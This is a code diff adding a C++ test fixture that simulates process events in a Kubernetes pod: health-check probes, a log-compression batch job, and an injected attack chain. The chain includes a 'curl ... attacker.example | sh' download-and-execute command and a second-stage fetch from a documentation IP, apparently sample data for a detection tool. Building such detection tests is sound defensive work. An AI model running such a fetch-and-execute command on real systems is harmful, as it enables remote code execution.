@@ -607,3 +607,79 @@ FixtureJournal incident_fixture() {
 }
 
 }  // namespace fixture
+
+namespace fixture {
+
+FixtureJournal liveness_fixture() {
+    FixtureJournal fx;
+    const std::string pod_cg = pod_cgroup(kLivenessPodUid, kLivenessContainer);
+    fx.snapshot(1, 0, at(0, 500'000'000), "systemd", "/usr/lib/systemd/systemd", {"/sbin/init"}, "/init.scope");
+    Proc shim =
+        fx.snapshot(30000, 1, at(940, 700'000'000), "containerd-shim", "/usr/bin/containerd-shim-runc-v2",
+                    {"/usr/bin/containerd-shim-runc-v2", "-namespace", "k8s.io"}, "/system.slice/containerd.service");
+    fx.pod(kLivenessPodUid, kLivenessPodName, kLivenessNamespace, "log-dir");
+
+    Proc loop = FixtureJournal::proc(kLivenessLoopPid, at(999, 900'000'000));
+    fx.fork(shim, loop, at(999, 900'000'000));
+    fx.exec(loop, "/bin/sh", {"sh", "/app/loop.sh"}, at(999, 910'000'000), pod_cg, kLivenessPodName, 1);
+
+    uint32_t pid = kLivenessLoopPid + 1;
+    for (int k = 0; k < 20; ++k) {
+        const uint64_t t = at(1000 + 10 * k, 20'000'000);
+        Proc probe = FixtureJournal::proc(pid++, t);
+        fx.fork(loop, probe, t);
+        fx.exec(probe, "/bin/sh", {"sh", "-c", "test -f /tmp/healthy"}, t + 1'000'000);
+        fx.exit(probe, t + 3'000'000, probe.tgid == kLivenessOddPid ? 1 : 0);
+        Proc sleep = FixtureJournal::proc(pid++, t + 4'000'000);
+        fx.fork(loop, sleep, t + 4'000'000);
+        fx.exec(sleep, "/bin/sleep", {"sleep", "10"}, t + 5'000'000);
+        fx.exit(sleep, at(1000 + 10 * k + 10, 5'000'000), 0);
+    }
+
+    Proc batch = FixtureJournal::proc(kLivenessBatchPid, at(1030, 0));
+    fx.fork(loop, batch, at(1030, 0));
+    fx.exec(batch, "/bin/sh", {"sh", "/app/batch.sh"}, at(1030, 1'000'000));
+    uint32_t bpid = kLivenessBatchPid + 1;
+    for (int k = 0; k < 4; ++k) {
+        const uint64_t t = at(1031 + k, 0);
+        Proc part = FixtureJournal::proc(bpid++, t);
+        fx.fork(batch, part, t);
+        fx.exec(part, "/bin/sh", {"sh", "-c", "gzip -9 /var/log/app/*.log"}, t + 1'000'000);
+        for (int g = 0; g < 3; ++g) {
+            Proc gz = FixtureJournal::proc(bpid++, t + (2 + g) * 10'000'000);
+            fx.fork(part, gz, t + (2 + g) * 10'000'000);
+            fx.exec(gz, "/bin/gzip", {"gzip", "-9"}, t + (2 + g) * 10'000'000 + 1'000'000);
+            fx.exit(gz, t + (2 + g) * 10'000'000 + 5'000'000, 0);
+        }
+        fx.exit(part, t + 500'000'000, 0);
+    }
+    fx.exit(batch, at(1036, 0), 0);
+
+    Proc sh1 = FixtureJournal::proc(30600, at(1142, 500'000'000));
+    fx.fork(loop, sh1, at(1142, 500'000'000));
+    fx.exec(sh1, "/bin/sh", {"sh", "-c", "curl -s http://attacker.example/x | sh"}, at(1142, 501'000'000));
+    Proc sh2 = FixtureJournal::proc(30601, at(1142, 600'000'000));
+    fx.fork(sh1, sh2, at(1142, 600'000'000));
+    fx.exec(sh2, "/bin/sh", {"sh"}, at(1142, 601'000'000));
+    Proc curl = FixtureJournal::proc(kLivenessCurlPid, at(1142, 700'000'000));
+    fx.fork(sh2, curl, at(1142, 700'000'000));
+    fx.exec(curl, "/usr/bin/curl", {"curl", "-s", "https://203.0.113.9/stage2"}, at(1142, 701'000'000));
+    fx.connect(curl, "203.0.113.9", 443, at(1142, 750'000'000));
+    fx.exit(curl, at(1143, 0), 0);
+    fx.exit(sh2, at(1143, 10'000'000), 0);
+    fx.exit(sh1, at(1143, 20'000'000), 0);
+
+    fx.loss(at(1120), at(1121), 3);
+
+    Proc session = FixtureJournal::proc(30700, at(1150, 0));
+    fx.fork(shim, session, at(1150, 0));
+    fx.exec(session, "/bin/sh", {"sh"}, at(1150, 1'000'000), pod_cg, kLivenessPodName, 40);
+    Proc ls = FixtureJournal::proc(30701, at(1151, 0));
+    fx.fork(session, ls, at(1151, 0));
+    fx.exec(ls, "/bin/ls", {"ls", "/"}, at(1151, 1'000'000));
+    fx.exit(ls, at(1151, 5'000'000), 0);
+    fx.exit(session, at(1160, 0), 0);
+    return fx;
+}
+
+}  // namespace fixture
